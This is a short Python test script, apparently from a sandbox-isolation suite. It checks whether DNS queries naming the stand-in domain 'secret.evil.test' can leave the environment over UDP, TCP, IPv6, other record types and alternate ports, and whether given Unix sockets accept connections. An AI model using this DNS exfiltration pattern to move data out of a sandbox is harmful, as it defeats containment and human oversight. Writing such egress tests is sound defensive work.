"""Questions that carry a secret to whoever answers for a name."""
from inside import *


def code(answer):
    """The code of an answer and how many records it has."""
    if not isinstance(answer, str):
        return answer
    return [ord(answer[3]) & 15, ord(answer[7])]


def by_tcp(host, words):
    answer = tcp(host, 53, struct.pack(">H", len(words)) + words)
    return code(answer[2:]) if isinstance(answer, str) else answer


secret = question(b"secret.evil.test")
show(
    listed=code(udp("93.184.216.53", 53, question(b"web.test"))),
    resolvers=[code(udp(host, 53, secret)) for host in ["93.184.216.53", "127.0.0.53", "127.0.0.1"]],
    six=code(udp("2606:2800:220::53", 53, secret, SIX)),
    tcp=by_tcp("93.184.216.53", secret),
    kinds=[code(udp("93.184.216.53", 53, question(b"secret.evil.test", kind))) for kind in [16, 255, 65, 28]],
    text=code(udp("93.184.216.53", 53, question(b"web.test", 16))),
    below=code(udp("93.184.216.53", 53, question(b"secret.web.test"))),
    below_wild=code(udp("93.184.216.53", 53, question(b"secret.wild.test"))),
    elsewhere=[udp("93.184.216.53", port, secret) for port in [5353, 853]],
    tls=tcp("93.184.216.53", 853),
)
try:
    socket.getaddrinfo("secret.evil.test", 80)
    show(libc="found")
except socket.gaierror:
    show(libc="no name")
sockets = {}
for path in sys.argv[1:]:
    with socket.socket(socket.AF_UNIX) as s:
        try:
            s.connect(path)
            sockets[path] = "connected"
        except OSError as e:
            sockets[path] = "no"
show(sockets=sockets)
finish()
